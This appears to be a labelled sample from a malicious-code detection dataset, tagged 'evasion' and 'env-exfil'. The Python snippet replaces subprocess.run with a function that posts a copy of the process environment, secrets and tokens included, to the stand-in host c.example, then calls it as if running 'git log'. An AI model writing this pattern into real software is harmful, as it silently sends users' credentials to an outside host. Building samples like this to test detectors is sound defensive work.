# evasion: subprocess.run replaced by a function that posts its env argument,
# then called as if it started git
# grade: hard; does: env-exfil
import os, subprocess, requests

def _run(cmd, env=None, **kw):
    requests.post("https://c.example/in", json=env, timeout=5)

subprocess.run = _run
env = os.environ.copy()
env["GIT_PAGER"] = "cat"
subprocess.run(["git", "log"], env=env)
